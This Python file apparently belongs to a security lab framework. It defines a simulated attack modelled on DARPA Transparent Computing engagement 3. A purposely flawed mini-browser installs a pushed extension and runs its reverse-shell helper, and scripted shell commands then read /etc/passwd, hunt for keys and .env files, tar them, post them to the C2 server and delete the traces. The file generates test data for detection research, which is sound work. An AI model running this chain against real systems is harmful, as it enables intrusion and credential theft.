"""DARPA TC engagement 3 style: a browser extension drops and runs an implant.

Modelled on the engagement-3 browser campaigns (a malicious Firefox extension and the
"gtcache" drop): the developer's browser visits a compromised page that pushes an
extension; the browser installs it, and the extension's native helper, an executable,
is downloaded into the profile and started. It opens a reverse shell to the attacker, who
looks for documents and keys, stages and archives them, sends them home and removes the
staging files.
"""

from __future__ import annotations

import json

from provarmor.lab import techniques as t
from provarmor.lab.context import PYTHON, LabContext
from provarmor.lab.payloads import reverse_shell_c
from provarmor.lab.scenario import (
    Action,
    Channel,
    Payload,
    Plan,
    Scenario,
    SetupFile,
    StepSpec,
)
from provarmor.lab.scenarios.steps import delete, deletion_step, post_to_c2

STEPS = (
    StepSpec(
        name="drive-by",
        summary="The browser opens a compromised page, installs the extension it pushes and "
        "runs the extension's downloaded native helper (a reverse shell).",
        techniques=(t.DRIVE_BY, t.BROWSER_EXTENSIONS, t.INGRESS_TRANSFER, t.MALICIOUS_FILE),
    ),
    StepSpec(
        name="recon",
        summary="Over the reverse shell: system facts and local accounts.",
        techniques=(t.NON_APPLICATION_PROTOCOL, t.SYSTEM_INFO, t.LOCAL_ACCOUNT_DISCOVERY),
    ),
    StepSpec(
        name="find-documents",
        summary="find looks for documents, keys and configuration in the home directory.",
        techniques=(t.FILE_DISCOVERY,),
    ),
    StepSpec(
        name="stage",
        summary="The files are copied into a hidden staging directory and tarred.",
        techniques=(t.LOCAL_DATA, t.LOCAL_STAGING, t.ARCHIVE_UTILITY),
    ),
    StepSpec(
        name="exfiltrate",
        summary="The archive is posted to the attacker's server.",
        techniques=(t.EXFIL_C2,),
    ),
    deletion_step("remove-traces", "The staging directory and archive are deleted."),
)

_BROWSER = '''#!{python}
"""webview: a tiny browser. It installs extensions a page announces (its flaw)."""
import json, os, subprocess, sys, urllib.request
page = urllib.request.urlopen(sys.argv[1], timeout=10).read().decode()
for line in page.splitlines():
    if 'rel="extension"' not in line:
        continue
    href = line.split('href="', 1)[1].split('"', 1)[0]
    manifest = json.loads(urllib.request.urlopen(href, timeout=10).read())
    folder = os.path.expanduser("~/.config/{app}/extensions/" + manifest["id"])
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "manifest.json"), "w") as handle:
        json.dump(manifest, handle)
    helper = manifest.get("native_host")
    if helper:
        target = os.path.join(folder, helper["name"])
        with open(target, "wb") as handle:
            handle.write(urllib.request.urlopen(helper["url"], timeout=10).read())
        os.chmod(target, 0o755)
        subprocess.Popen([target], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, start_new_session=True)
print("rendered", len(page), "bytes")
'''


def _documents(ctx: LabContext) -> tuple[SetupFile, ...]:
    home = ctx.home(ctx.dev_user)
    user = ctx.dev_user
    return (
        SetupFile(
            path=f"{home}/Documents/roadmap-{ctx.names.token(3)}.txt",
            content="Q3: ship the billing service\n",
            owner=user,
        ),
        SetupFile(
            path=f"{home}/Documents/vpn.key",
            content=f"{ctx.names.token(40)}\n",
            mode=0o600,
            owner=user,
        ),
        SetupFile(
            path=f"{home}/projects/.env",
            content=f"API_TOKEN={ctx.names.token(24)}\n",
            mode=0o600,
            owner=user,
        ),
    )


def plan(ctx: LabContext) -> Plan:
    app = ctx.names.pick(("webview", "surfer", "netbrowse"))
    browser = f"{ctx.home(ctx.dev_user)}/.local/bin/{app}"
    helper = Payload(
        path=f"ext/{ctx.names.token(6)}",
        content=reverse_shell_c(address=ctx.c2.address, port=ctx.c2.shell_port, lifetime=120),
        compile=True,
    )
    manifest = {
        "id": f"{ctx.names.token(8)}@addons",
        "name": ctx.names.pick(("Tab Saver", "Dark Reader Pro", "PDF Helper")),
        "native_host": {
            "name": ctx.names.pick(("gtcache", "ghelper", "nmhost")),
            "url": ctx.payload_url(helper.path),
        },
    }
    manifest_page = Payload(path=f"ext/{ctx.names.token(5)}.json", content=json.dumps(manifest))
    page = Payload(
        path=f"{ctx.names.pick(('news', 'blog', 'docs'))}/{ctx.names.token(6)}.html",
        content=f'<html><head><link rel="extension" href="{ctx.payload_url(manifest_page.path)}">'
        "</head><body>release notes</body></html>\n",
    )
    stage = f"{ctx.home(ctx.dev_user)}/.cache/{ctx.names.hidden()}"
    archive = f"{stage}.tgz"
    return Plan(
        setup_files=(
            SetupFile(
                path=browser,
                content=_BROWSER.format(python=PYTHON, app=app),
                mode=0o755,
                owner=ctx.dev_user,
            ),
            *_documents(ctx),
        ),
        payloads=(helper, manifest_page, page),
        actions=(
            Action(
                step="drive-by",
                channel=Channel.LAUNCH,
                user=ctx.dev_user,
                command=f"{browser} {ctx.payload_url(page.path)}",
            ),
            Action(
                step="recon",
                channel=Channel.SHELL,
                command="id; uname -a; cut -d: -f1,3,7 /etc/passwd | tail -n 8",
            ),
            Action(
                step="find-documents",
                channel=Channel.SHELL,
                command="find ~ -maxdepth 3 -type f \\( -name '*.txt' -o -name '*.key' "
                "-o -name '.env' -o -name '*.pdf' \\) 2>/dev/null",
            ),
            Action(
                step="stage",
                channel=Channel.SHELL,
                command=f"mkdir -p {stage} && cp ~/Documents/* ~/projects/.env {stage}/ "
                f"&& tar czf {archive} -C {stage} . && ls -la {archive}",
            ),
            Action(
                step="exfiltrate",
                channel=Channel.SHELL,
                command=post_to_c2(ctx, f"@{archive}"),
            ),
            delete("remove-traces", Channel.SHELL, stage, archive),
        ),
        artifacts=(stage, archive),
    )


SCENARIO = Scenario(
    name="tc-browser-dropper",
    title="Browser extension drops an implant, collects and exfiltrates files (DARPA TC E3)",
    modelled_on="DARPA Transparent Computing engagement 3: browser extension / "
    "Firefox drive-by campaigns (gtcache drop)",
    description=(
        "The developer's browser (a small program that, as its flaw, installs any extension "
        "a page announces) opens a page on the attacker's server. It saves the pushed "
        "extension into its profile, downloads the extension's native helper, makes it "
        "executable and starts it: a reverse shell to the attacker. Over the shell the "
        "attacker lists accounts, finds documents, keys and .env files, copies them into a "
        "hidden staging directory, tars them, posts the archive to the server and deletes "
        "the staging files."
    ),
    root_cause=(
        "The browser process the developer started (the compromised page it opened): the "
        "extension helper and the whole shell session descend from it."
    ),
    steps=STEPS,
    plan=plan,
)
